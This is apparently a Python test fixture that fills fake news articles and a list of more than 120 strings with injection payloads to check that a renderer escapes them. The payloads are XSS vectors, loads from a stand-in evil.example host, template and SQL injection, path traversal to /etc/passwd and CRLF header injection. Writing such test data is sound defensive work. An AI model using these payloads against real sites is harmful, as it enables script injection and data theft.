"""Articles whose every field tries to be more than text. Each carries a fact, so that its text comes to be quoted."""

from __future__ import annotations

from onrecord.index import Article

PAYLOADS = (
    "<script>window.hacked = 1</script>",
    '<img src=x onerror="window.hacked=1">',
    "<img src=https://evil.example/pixel.png>",
    "{{value}} {{#each value}}{{this}}{{/each}} {{{value}}}",
    "${window.hacked=1} ${alert(1)} ${[].constructor.constructor`window.hacked=1```}",
    "`; window.hacked = 1; `",
    "\\u0041 \\x41 \\n \\",
    "$$x^2$$ \\(y\\) \\[z\\]",
    "![pixel](https://evil.example/pixel.png) [link](javascript:window.hacked=1)",
    "<form action=https://evil.example><input name=q><button>Send</button></form>",
    "<iframe src=https://evil.example></iframe><svg onload=window.hacked=1>",
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "&lt;b&gt; &amp; &#36;{window.hacked=1}",
    '"><a href=javascript:window.hacked=1>link</a>',
)


def sentence(number: int) -> str:
    """The sentence of an article that answers ``question(number)``, with its payload in the middle of it."""
    return f"The harbour wall of Port {NAMES[number]} {PAYLOADS[number]} cost {number + 3} million crowns to repair."


def question(number: int) -> str:
    return f"How much did the harbour wall of Port {NAMES[number]} cost to repair?"


NAMES = (
    "Alder", "Birch", "Cedar", "Damson", "Elder", "Fennel", "Gorse",
    "Hazel", "Iris", "Juniper", "Kale", "Laurel", "Maple", "Nettle",
)  # fmt: skip

ARTICLES = [
    Article(
        id=f"hostile-{number}",
        title=f"Port {name} {payload}",
        text=f"{sentence(number)}\n\nThe mayor {payload} was content.",
        url="javascript:window.hacked=1" if number % 2 else f"https://courier.example/{payload}",
        outlet=f"Courier {payload}",
        published=f"2025-07-{number + 1:02}",
        authors=(payload,),
    )
    for number, (name, payload) in enumerate(zip(NAMES, PAYLOADS, strict=True))
]

_ACT = "window.hacked=1"
_AWAY = "https://evil.example"
_HANDLERS = (
    f"<{tag} on{event}={_ACT}>"
    for tag, event in (
        ("body", "load"),
        ("video", "error src=x"),
        ("audio", "canplay"),
        ("input autofocus", "focus"),
        ("select autofocus", "focus"),
        ("textarea autofocus", "focus"),
        ("details open", "toggle"),
        ("marquee", "start"),
        ("object data=x", "error"),
        ("embed src=x", "load"),
        ("div tabindex=0", "focusin"),
        ("p style=animation-name:x", "animationstart"),
        ("a href=#", "click"),
        ("button", "pointerover"),
        ("math", "mouseover"),
        ("svg><animate attributeName=x dur=1s", "begin"),
        ("svg><set", "end"),
        ("keygen autofocus", "focus"),
        ("isindex type=image src=x", "error"),
        ("link rel=stylesheet href=x", "error"),
    )
)
_MARKUP = (
    f"<ScRiPt>{_ACT}</sCrIpT>",
    f"<script src={_AWAY}/x.js></script>",
    f"<script type=module>{_ACT}</script>",
    f"</script><script>{_ACT}</script>",
    f"</title><script>{_ACT}</script>",
    f"</textarea><script>{_ACT}</script>",
    f"--><script>{_ACT}</script><!--",
    f"]]><script>{_ACT}</script>",
    f"<<script>{_ACT}//<</script>",
    f"<img/src=x/onerror={_ACT}>",
    f"<img src=x onerror\n={_ACT}>".replace("\n", " "),
    f'<img """><script>{_ACT}</script>">',
    f"<svg><script>{_ACT}</script></svg>",
    f"<svg/onload={_ACT}>",
    f"<svg><a href=javascript:{_ACT}><text>x</text></a></svg>",
    f"<math><mtext><script>{_ACT}</script></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_ACT}>'>",
    f"<template><script>{_ACT}</script></template>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src=javascript:parent.hacked=1></iframe>",
    f"<object data=javascript:{_ACT}></object>",
    f"<base href={_AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<form><button formaction=javascript:{_ACT}>x",
    f"<a href={_AWAY} target=_top>x</a>",
    f"<a ping={_AWAY} href=#>x</a>",
    f"<img srcset={_AWAY}/x.png>",
    f"<picture><source srcset={_AWAY}/x.png><img></picture>",
    f"<video poster={_AWAY}/x.png>",
    f"<audio src={_AWAY}/x.ogg autoplay>",
    f"<style>@import '{_AWAY}/x.css';</style>",
    f"<p style='background:url({_AWAY}/x.png)'>",
    "<dialog open>x</dialog>",
    "<plaintext>",
    "<xmp>",
    "<!doctype html><html>",
    "<frameset>",
    "<table><tr><td>",
    "</div></section></main></body></html>",
)
_TEMPLATES = (
    "${window.hacked=1}",
    "`${window.hacked=1}`",
    "${`${window.hacked=1}`}",
    "$${window.hacked=1}",
    "\\${window.hacked=1}",
    "{{7*7}}",
    "{{constructor.constructor('window.hacked=1')()}}",
    "{% raw %}{{7*7}}{% endraw %}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{@html '<img src=x onerror=window.hacked=1>'}",
    "{#if true}x{/if}",
    "{{#with this}}{{lookup . 'x'}}{{/with}}",
    "[[${7*7}]]",
    "*{7*7}",
    "@{7*7}",
    "{0.__class__}",
    "%(x)s %s %n %x",
    "{x!r:>{y}}",
    "$(id) `id`",
    "${{7*7}}",
)
ADDRESSES = (
    f"javascript:{_ACT}",
    f"JaVaScRiPt:{_ACT}",
    f"java\tscript:{_ACT}".replace("\t", " "),
    f"data:text/html,<script>{_ACT}</script>",
    f"vbscript:{_ACT}",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "file:///etc/passwd",
    "blob:null/x",
    "https://a@evil.example",
    "http://[::1]:1/",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f",
    "%00",
    "%0d%0aSet-Cookie:x=1",
)
_DATA = (
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    '{"__proto__": {"hacked": 1}}',
    "null",
    "undefined",
    "NaN",
    "-0",
    "9" * 400,
    "1e999",
    "true",
    "[]",
    "' OR 1=1 --",
    '"; DROP TABLE article; --',
    "%27%20OR%201",
    "&#x3c;script&#x3e;",
    "&Tab;&colon;",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "\u202e\u202dabc\u202c",
    "\u2066right\u2069 to \u2067left\u2069",
    "a\u200bb\u200dc\ufeff",
    "مرحبا <b>بالعالم</b>",
    "שלום \u202e<i>עולם</i>",
    "Z" + "\u0300" * 60,
    "👩‍👩‍👧‍👦🏳️‍🌈🇺🇳",
    "\x1b[31mred\x1b[0m",
    "\ufffe\uffff",
    "ﷺ" * 20,
    "W" * 300,
    "long " * 60,
    "-" * 200,
    "_" * 200,
    "…" * 100,
    "a/" * 150,
    "<" * 200,
    "&" * 200,
    '"' * 200,
    "'" * 200,
)

STRINGS = (*PAYLOADS, *_HANDLERS, *_MARKUP, *_TEMPLATES, *ADDRESSES, *_DATA)
"""More than 120 of them, to be put wherever something can be put."""
